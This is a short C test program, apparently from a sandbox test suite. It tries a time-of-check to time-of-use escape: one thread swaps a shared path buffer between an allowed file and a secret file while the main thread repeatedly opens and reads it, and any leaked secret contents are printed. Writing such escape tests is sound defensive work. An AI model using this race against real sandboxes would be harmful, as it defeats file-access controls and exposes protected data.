/* Escape attempt: a thread rewrites the path buffer between an allowed path and the
 * secret's for ~2 s while the main thread opens it (time-of-check to time-of-use). */
#include "attack.h"
#include <pthread.h>
#include <sys/syscall.h>

static char buf_path[4096];
static char OK[2300];
static volatile int stop;

static void* flipper(void* arg) {
  (void)arg;
  size_t n = strlen(OK) + 1, m = strlen(SECRET) + 1;
  while (!stop) {
    memcpy(buf_path, SECRET, m);
    memcpy(buf_path, OK, n);
  }
  return NULL;
}

int main(int argc, char** argv) {
  fixture(argc, argv);
  snprintf(OK, sizeof OK, "%s/ro.txt", RO);
  memcpy(buf_path, OK, strlen(OK) + 1);
  pthread_t th;
  pthread_create(&th, NULL, flipper, NULL);
  long opens = 0, leaks = 0;
  char buf[256];
  for (double end = now() + 2; now() < end;) {
    int fd = (int)syscall(SYS_openat, AT_FDCWD, buf_path, O_RDONLY);
    if (fd < 0) continue;
    ++opens;
    ssize_t n = read(fd, buf, sizeof buf - 1);
    close(fd);
    if (n > 0 && strncmp(buf, "READONLY", 8) != 0) { ++leaks; fwrite(buf, 1, (size_t)n, stdout); }
  }
  stop = 1;
  pthread_join(th, NULL);
  fprintf(stderr, "file_path_race: %ld opens, %ld leaks\n", opens, leaks);
  return leaks ? 1 : 0;
}
